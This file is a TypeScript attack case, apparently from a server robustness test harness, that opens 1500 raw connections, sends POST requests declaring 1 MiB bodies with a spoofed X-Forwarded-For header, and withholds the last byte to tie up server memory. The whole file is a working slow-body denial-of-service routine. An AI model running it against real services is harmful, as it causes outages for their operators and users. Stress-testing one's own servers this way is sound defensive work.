import { attacker, hold, Raw, times } from "../raw.ts";
import type { Attack } from "../trial.ts";

const requests = 1500;
const size = 1024 * 1024;
/** Two bytes a character, so that the text takes as much in memory. */
const body = new TextEncoder().encode("\u0416".repeat(size / 2)).subarray(0, size - 1);

/** Bodies of which the last byte does not come. */
export const attack: Attack = async (target, signal) => {
  const paths = ["/api/v1/predictions", "/api/v1/heartbeat"];
  let taken = 0;
  const send = async (index: number) => {
    const raw = await Raw.connect(target);
    const head = `POST ${paths[index % paths.length]} HTTP/1.1\r\nHost: ${target.hostname}\r\n` +
      `X-Forwarded-For: ${attacker}\r\nContent-Length: ${size}\r\n\r\n`;
    if (await raw.write(head) && await raw.write(body)) taken += 1;
    return raw;
  };
  const sending = times(requests, send);
  await Promise.race([sending, hold(10_000, signal)]);
  sending.then((raws) => raws.forEach((raw) => raw[Symbol.dispose]()));
  return { said: `${requests} POSTs of 1 MiB, ${taken} taken in all but for the last byte`, faults: [] };
};
